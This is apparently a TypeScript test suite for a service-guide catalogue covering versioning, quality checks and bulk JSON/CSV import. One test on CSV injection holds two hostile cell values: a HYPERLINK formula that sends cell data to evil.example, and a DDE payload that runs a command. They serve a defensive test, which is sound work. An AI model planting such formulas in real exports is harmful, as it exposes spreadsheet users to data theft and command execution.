import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { openTestStore } from '../../../test/helpers/store.js';
import { DomainError, systemClock } from '../../kernel/index.js';
import { type Store, metaMigrations, migrate, sql } from '../../platform/db/index.js';
import { parseCsv } from '../../platform/csv.js';
import { eventsMigrations } from '../../platform/events/index.js';
import { csvHeader, csvRow, exportJsonText } from './catalog.io.js';
import { localRegions } from './catalog.regions.js';
import { type CatalogService, createCatalogService } from './catalog.service.js';
import { catalogMigrations } from './catalog.store.js';
import { clone, permitGuide, TEST_DEPARTMENT } from './catalog.testkit.js';
import { type Guide, implementationCodeOf } from './catalog.types.js';

let store: Store;
let service: CatalogService;

async function countRows(table: 'catalog_item_versions' | 'events', where = ''): Promise<number> {
  const r = await sql<{ n: number }>`select count(*) as n from ${sql.raw(table)} ${sql.raw(where)}`.execute(
    store.db,
  );
  return Number(r.rows[0]!.n);
}

before(async () => {
  store = await openTestStore();
  await migrate(store.db, { ...metaMigrations, ...eventsMigrations, ...catalogMigrations });
  const local = localRegions();
  // the test department joins the local slice so drafts of the fixture guide can be checked
  const regions = {
    ...local,
    departmentById: async (id: string) =>
      id === TEST_DEPARTMENT.id ? TEST_DEPARTMENT : local.departmentById(id),
  };
  service = createCatalogService({ db: store.db, clock: systemClock, regions });
});
after(() => store.close());

/** the cells as a spreadsheet sees them: unquoted, one record */
function parseCsvCells(line: string): string[] {
  return parseCsv(line, { asWritten: true })[0]!.fields;
}

async function expectCode<T>(p: Promise<T>, code: string): Promise<DomainError> {
  try {
    await p;
  } catch (e) {
    assert.ok(e instanceof DomainError, String(e));
    assert.equal(e.code, code);
    return e;
  }
  assert.fail(`expected ${code}`);
}

describe('catalogue versions: draft → review → published', () => {
  const g = permitGuide();
  const code = implementationCodeOf(g);

  test('实施编码 = credit code (18) + basic code (12) + variant (2)', () => {
    assert.equal(code.length, 32);
    assert.equal(code, `${TEST_DEPARTMENT.creditCode}${g.basicCode}00`);
  });

  test('a draft is created, submitted, published, and each step writes its event', async () => {
    const v1 = await service.createDraft('acct-1', g);
    assert.equal(v1.version, 1);
    assert.equal(v1.status, 'draft');
    assert.equal((await service.submitForReview('acct-1', code)).status, 'review');
    const pub = await service.publish('acct-2', code, { effectiveFrom: '2026-01-01' });
    assert.equal(pub.status, 'published');
    assert.equal(pub.effectiveFrom, '2026-01-01');
    const types = await sql<{
      type: string;
    }>`select type from events where aggregate_id = ${code} order by seq`.execute(store.db);
    assert.deepEqual(
      types.rows.map((r) => r.type),
      ['catalog.item.drafted', 'catalog.item.submitted', 'catalog.item.published'],
    );
  });

  test('a new version supersedes the old one, which stays readable forever', async () => {
    await service.startRevision('acct-1', code);
    const edited = clone(g);
    edited.promisedLimit.days = 8;
    edited.steps[1]!.limit.days = 4;
    edited.faq.push({ question: '可以网上办理吗？', answer: '可以，全程网办。' });
    await service.updateDraft('acct-1', code, edited);
    await service.submitForReview('acct-1', code);
    const v2 = await service.publish('acct-2', code);
    assert.equal(v2.version, 2);
    const v1 = await service.getItemVersion(code, 1);
    assert.equal(v1?.status, 'superseded');
    assert.equal(v1?.guide.promisedLimit.days, 10);
    assert.ok(v1?.withdrawnAt);
    assert.equal((await service.getPublishedItem(code))?.version, 2);
  });

  test('the diff lists every changed field with its value before and after', async () => {
    const d = await service.diff(code, 1, 2);
    const byPath = new Map(d.changes.map((c) => [c.path, c]));
    assert.deepEqual(byPath.get('promisedLimit.days'), { path: 'promisedLimit.days', before: 10, after: 8 });
    assert.deepEqual(byPath.get('steps.1.limit.days'), { path: 'steps.1.limit.days', before: 6, after: 4 });
    // an added FAQ shows as one new element
    assert.deepEqual(byPath.get(`faq.${g.faq.length}`)?.after, {
      question: '可以网上办理吗？',
      answer: '可以，全程网办。',
    });
    assert.equal((await service.diff(code, 2, 2)).changes.length, 0);
  });

  test('a draft that fails quality cannot be submitted; the refusal lists every failure', async () => {
    await service.startRevision('acct-1', code);
    const bad = clone(g);
    bad.faq = [];
    bad.online.visits = 2;
    await service.updateDraft('acct-1', code, bad);
    const e = await expectCode(service.submitForReview('acct-1', code), 'CATALOG.QUALITY_FAILED');
    const rules = (e.details as Array<{ rule: string }>).map((i) => i.rule);
    assert.ok(rules.includes('Q.PERMIT_FAQ'));
    assert.ok(rules.includes('Q.DEPTH4_ZERO_VISITS'));
    assert.equal((await service.current(code))?.status, 'draft');
  });

  test('publish re-runs every rule and writes nothing on failure', async () => {
    // a version put into review under older rules must not slip through
    const draft = await service.current(code);
    await sql`update catalog_item_versions set status = 'review' where implementation_code = ${code} and version = ${draft!.version}`.execute(
      store.db,
    );
    const eventsBefore = await countRows('events');
    await expectCode(service.publish('acct-2', code), 'CATALOG.QUALITY_FAILED');
    assert.equal(await countRows('events'), eventsBefore);
    assert.equal((await service.getPublishedItem(code))?.version, 2);
    assert.equal((await service.current(code))?.status, 'review');
    await service.returnToDraft('acct-2', code, 'fix the FAQ');
    assert.equal((await service.current(code))?.status, 'draft');
  });

  test('a draft cannot change its implementation code', async () => {
    const other = clone(g);
    other.variant = '05';
    await expectCode(service.updateDraft('acct-1', code, other), 'CATALOG.CODE_CHANGED');
  });

  test('withdrawal ends the published version; every version stays readable', async () => {
    const w = await service.withdraw('acct-2', code, '事项取消');
    assert.equal(w.status, 'withdrawn');
    assert.equal(await service.getPublishedItem(code), undefined);
    assert.equal((await service.getItemVersion(code, 2))?.guide.promisedLimit.days, 8);
    await expectCode(service.withdraw('acct-2', code, 'again'), 'CATALOG.NOT_PUBLISHED');
  });

  test('an unknown implementing body is refused', async () => {
    const x = clone(g);
    x.implementingBody.departmentId = 'no-such-dept';
    x.basicCode = '019999999000';
    await expectCode(service.createDraft('acct-1', x), 'CATALOG.DEPARTMENT_UNKNOWN');
  });
});

describe('tongban import items: all or nothing', () => {
  let scale: Guide[];
  before(async () => {
    scale = await service.scaleGuides();
  });

  test('the generated Zhengzhou list has 5,314 items', () => {
    assert.equal(scale.length, 5314);
  });

  test('JSON › one bad row: nothing written, every bad row reported with its row number', async () => {
    const rows = JSON.parse(exportJsonText(scale)).items as Array<Record<string, unknown>>;
    const before = await countRows('catalog_item_versions');
    const eventsBefore = await countRows('events');
    // row 4,000 breaks a quality rule; row 17 breaks the schema; row 5,314 repeats row 1
    (rows[3999]!.online as { visits: number }).visits = 3;
    rows[16]!.type = '99';
    rows[5313] = rows[0]!;
    const r = await service.importText(JSON.stringify({ items: rows }), 'json');
    assert.equal(r.imported, 0);
    const byRow = new Map<number, string[]>();
    for (const i of r.issues) byRow.set(i.row, [...(byRow.get(i.row) ?? []), i.rule]);
    assert.deepEqual(
      [...byRow.keys()].sort((a, b) => a - b),
      [17, 4000, 5314],
    );
    assert.ok(byRow.get(17)!.some((x) => x.startsWith('SCHEMA.')));
    assert.ok(
      byRow.get(4000)!.includes('Q.DEPTH4_ZERO_VISITS') ||
        byRow.get(4000)!.includes('Q.DEPTH3_AT_MOST_ONE_VISIT') ||
        byRow.get(4000)!.includes('Q.DEPTH_LOW_NEEDS_VISIT'),
    );
    assert.ok(byRow.get(5314)!.includes('IMPORT.DUPLICATE_CODE'));
    assert.equal(await countRows('catalog_item_versions'), before);
    assert.equal(await countRows('events'), eventsBefore);
  });

  test('CSV › one bad row: nothing written; the row is the line its record starts on', async () => {
    const sample = scale.slice(0, 200);
    const lines = [csvHeader(), ...sample.map(csvRow)];
    // record 101 (line 102): an unknown department
    const bad = clone(sample[100]!);
    bad.implementingBody.departmentId = 'dept-unknown';
    lines[101] = csvRow(bad);
    const before = await countRows('catalog_item_versions');
    const r = await service.importText(lines.join('\r\n'), 'csv');
    assert.equal(r.imported, 0);
    assert.deepEqual(
      r.issues.map((i) => [i.row, i.rule]),
      [[102, 'IMPORT.UNKNOWN_DEPARTMENT']],
    );
    assert.equal(await countRows('catalog_item_versions'), before);
  });

  test('CSV › a clean file imports every row in one go and round-trips exactly', async () => {
    const sample = scale.slice(200, 400);
    const r = await service.importText([csvHeader(), ...sample.map(csvRow)].join('\n'), 'csv');
    assert.deepEqual(r.issues, []);
    assert.equal(r.imported, 200);
    const back = await service.getPublishedItem(implementationCodeOf(sample[7]!));
    assert.deepEqual(back?.guide, JSON.parse(JSON.stringify(sample[7])));
  });

  test('OWASP CSV injection › a hostile item name is exported inert and imports back unchanged', async () => {
    // a spreadsheet runs a cell starting with = + - @ (or tab / CR before one) as a formula
    const hostile = clone(scale[400]!);
    hostile.name = '=HYPERLINK("http://evil.example/?d="&A1,"办理指南")';
    hostile.entrustedBy = "@SUM(1+1)*cmd|' /C calc'!A0";
    const row = csvRow(hostile);
    for (const cell of parseCsvCells(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
    const r = await service.importText([csvHeader(), row].join('\n'), 'csv');
    assert.deepEqual(r.issues, []);
    const back = await service.getPublishedItem(implementationCodeOf(hostile));
    assert.equal(back?.guide.name, hostile.name);
    assert.equal(back?.guide.entrustedBy, hostile.entrustedBy);
  });

  test('JSON › the full 5,314-item list imports when clean', async () => {
    const r = await service.importText(exportJsonText(scale), 'json');
    assert.deepEqual(r.issues, []);
    assert.equal(r.imported, 5314);
    const published = await countRows('catalog_item_versions', "where status = 'published'");
    assert.equal(published, 5314);
    const { items, nextCursor } = await service.listPublishedForIndex('', 3);
    assert.equal(items.length, 3);
    assert.ok(nextCursor);
    assert.ok(items[0]!.summary.length > 10);
  });

  test('an unreadable file is refused with a coded error', async () => {
    await expectCode(service.importText('{not json', 'json'), 'CATALOG.IMPORT_FORMAT');
    await expectCode(service.importText('a,b\n1,2', 'csv'), 'CATALOG.IMPORT_FORMAT');
  });
});
